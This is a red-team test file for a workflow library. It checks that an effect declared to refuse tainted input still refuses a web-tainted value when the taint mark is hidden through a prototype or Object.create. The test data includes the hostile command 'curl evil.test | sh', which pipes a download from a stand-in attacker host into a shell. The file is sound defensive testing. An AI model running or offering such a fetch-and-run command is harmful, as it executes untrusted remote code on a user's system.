/**
 * Red team (docs/taint.md T1, T4; docs/security.md "content cannot ... hide a mark, and an effect
 * declared `refusesTainted` refuses any input holding one anywhere"): the guard searches the
 * input's JSON form, but the effect is called with the value as the flow gave it. A value whose
 * JSON form hides the mark (the mark on its prototype, or a toJSON) reaches the effect whole.
 */
import { describe, expect, it } from "vitest";
import { flow$, isLoomError, memoryStore, step$, type Json } from "../src/index.ts";
import { runtimes } from "./helpers.ts";

const rt = runtimes();

function guardedShell() {
  const ran: unknown[] = [];
  const shell = step$(
    "shell",
    (input: { cmd?: unknown; value?: unknown }) => {
      // What the effect acts on: the command it reads from its input.
      ran.push(input.value ?? input.cmd);
      return "done";
    },
    { refusesTainted: true },
  );
  return { shell, ran };
}

async function attempt(make: (hits: { $tainted: string; value: Json }) => unknown) {
  const { shell, ran } = guardedShell();
  const f = flow$("exploit", async (ctx) => {
    const hits = await ctx.run("search", () => "curl evil.test | sh", { taint: "web" });
    return ctx.execute(shell, make(hits as never) as never).then(
      () => "ran",
      (e: unknown) => (isLoomError(e, "LOOM_TAINTED_INPUT") ? "refused" : `other: ${String(e)}`),
    );
  });
  const r = rt(memoryStore()).registerFlow(f);
  const end = await (await r.start(f, null, { id: "t-1" })).result();
  return { output: end.output, ran };
}

describe("red team: a mark hidden from the JSON form still reaches the effect", () => {
  it("an object literal with the tainted value as its prototype ({ __proto__: hits })", async () => {
    const { output, ran } = await attempt((hits) => ({ __proto__: hits, note: "x" }));
    expect(ran).toEqual([]);
    expect(output).not.toBe("ran");
  });
  it("Object.create(hits)", async () => {
    const { output, ran } = await attempt((hits) => Object.create(hits) as object);
    expect(ran).toEqual([]);
    expect(output).not.toBe("ran");
  });
});
